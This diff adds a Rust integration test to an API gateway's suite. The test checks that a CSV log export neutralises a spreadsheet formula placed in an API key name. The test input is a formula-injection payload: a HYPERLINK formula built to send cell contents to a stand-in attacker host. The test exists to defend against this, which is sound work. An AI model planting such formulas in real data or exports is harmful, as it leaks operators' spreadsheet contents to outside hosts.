@@ -140,6 +140,27 @@ async fn the_request_log_filters_pages_and_exports_csv() {
     assert!(lines[1].contains(",echo/b,echo,"));
 }
 
+/// A name a tenant chose (here a `write` key's name for a key it issues) reaches an
+/// operator's export as text, never as a spreadsheet formula.
+#[tokio::test]
+async fn the_csv_export_carries_no_formula_a_tenant_chose() {
+    let app = spawn_app().await;
+    let org = app.create_org("Formulas").await;
+    let (_, writer) = app.issue_key(&org, "write").await;
+    let name = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
+    let issued =
+        app.post("/v1/api-keys", &writer, json!({"organization_id": org, "name": name, "permission": "read"})).await;
+    assert_eq!(issued.status, StatusCode::CREATED, "{}", issued.body);
+    let key = issued.body["key"].as_str().unwrap().to_owned();
+    assert_eq!(app.chat(&key, json!({"model": "echo/a", "messages": user_message("hi")})).await.status, StatusCode::OK);
+    app.wait_for_projections().await;
+    let csv = app.client.get(app.url("/v1/logs?format=csv")).bearer_auth(&app.admin_token).send().await.unwrap();
+    let text = csv.text().await.unwrap();
+    let row = text.lines().nth(1).unwrap();
+    assert!(row.contains(",\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"open\"\")\","), "{row}");
+    assert!(!row.contains(",=") && !row.contains(",\"="), "no field starts a formula: {row}");
+}
+
 /// What OpenAI lists for gpt-4o, written here apart from the registry: nano-USD per
 /// token for input, cached input and output ($2.50, $1.25 and $10 per million).
 const GPT_4O_NANOS_PER_TOKEN: (i64, i64, i64) = (2_500, 1_250, 10_000);
